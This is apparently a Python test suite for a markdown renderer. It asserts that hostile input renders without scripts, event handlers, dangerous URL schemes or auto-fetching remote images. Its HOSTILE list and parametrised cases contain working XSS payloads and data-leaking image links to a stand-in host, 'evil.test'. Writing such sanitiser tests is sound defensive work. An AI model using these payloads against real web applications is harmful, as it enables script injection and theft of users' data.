"""Markdown written by somebody who means harm."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exobrain.lib.markdown import MAX_CHARS, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.test)",
    "[x](/logout)",
    "[x](https:evil.test)",
    "[x](https://ok.test 'a\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](https://evil.test/leak.png?q=secret)",
    "![x](//evil.test/leak.png)",
    "![x](/journal/days)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
    "[![x](https://evil.test/leak.png)](https://ok.test)",
    "![[a](javascript:alert(1))](https://evil.test/x.png)",
    "![x][r]\n\n[r]: https://evil.test/leak.png",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onload="alert(1)\ny\n```',
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A[<b onclick=x>]\n```",
    r"$\href{javascript:alert(1)}{x}$",
    "$<img src=x onerror=alert(1)>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "| <script>alert(1)</script> |\n|--|\n| <b onclick=alert(1)> |",
    "`<script>alert(1)</script>`",
    "<!-- --><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAGS = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li"),
    *("strong", "em", "s", "a", "img", "code", "pre", "span", "div"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {
    *("class", "href", "title", "target", "rel", "src", "alt", "loading"),
    *("start", "tabindex", "data-language"),
}


class _Inspector(HTMLParser):
    """Collects whatever is not plainly harmless."""

    def __init__(self) -> None:
        super().__init__()
        self.offences: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Compare a tag with the lists above."""
        if tag not in TAGS:
            self.offences.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES or not _is_harmless(tag, name, value or ""):
                self.offences.append(f"<{tag} {name}={value}>")


def _is_harmless(tag: str, name: str, value: str) -> bool:
    if name == "href":
        return value.lower().startswith(("https://", "http://", "mailto:"))
    if name == "src":
        return value.startswith("data:image/png;base64,")
    return True


def offences(html: str) -> list[str]:
    """What in the HTML could run or fetch something."""
    inspector = _Inspector()
    inspector.feed(html)
    return inspector.offences


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_that_runs_or_fetches_gets_through(source: str) -> None:
    """Only listed tags and attributes, web links and images with their own bytes come out."""
    assert offences(render(source)) == []


@settings(deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "[", "](", "![", "\n", "> ", "$", "|", "`", "<", "*"])))
def test_no_mixture_gets_through(pieces: list[str]) -> None:
    """However the pieces are put together, nothing that runs or fetches comes out."""
    assert offences(render("".join(pieces))) == []


@settings(deadline=None)
@given(st.text())
def test_any_text_can_be_rendered(text: str) -> None:
    """Every text has a rendering."""
    assert isinstance(render(text), str)


def test_remote_image_becomes_a_link() -> None:
    """What an image would fetch on its own waits for a click."""
    html = render("![a cat](https://cats.test/1.png)")

    assert html.strip() == (
        '<p><a href="https://cats.test/1.png" target="_blank" '
        'rel="noopener noreferrer nofollow">a cat</a></p>'
    )


def test_link_leaves_no_trace_of_us() -> None:
    """A link opens elsewhere, without an opener, a referrer or our recommendation."""
    html = render("[a](https://b.test)")

    assert 'target="_blank" rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    "source",
    [
        "[m1]\n\n[m1]: https://evil.test",
        "[\\[m1\\]](https://evil.test)",
        "[m1](https://evil.test)",
        "[**m 1**](https://evil.test)",
        "![m1](https://evil.test/x.png)",
        "[![m1](https://evil.test/x.png)](https://evil.test)",
    ],
)
def test_a_citation_mark_leads_nowhere(source: str) -> None:
    """A link that reads like one would pass for what the memory has."""
    html = render(f"You like tea {source}")

    assert "href" not in html
    assert re.search(r"\[m ?1\]", html)
    assert "href" in render("[M31](https://galaxies.test)")


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "*", "**a *b ", "> ", "- ", "`", "$", "$$a\n", "<", "~~a", "|\n", "&#0;", "[a]("],
)
def test_repetition_ends(piece: str) -> None:
    """The longest text that is parsed at all ends, however it is made (the suite has a clock)."""
    assert render(piece * (MAX_CHARS // len(piece)))


def test_a_million_characters_end() -> None:
    """A megabyte is shown as written."""
    assert len(render("[" * 1_000_000)) > 1_000_000


def test_deep_nesting_ends() -> None:
    """Lists within quotes within lists do not exhaust the stack."""
    assert render("".join("  " * depth + "- > a\n" for depth in range(200)))
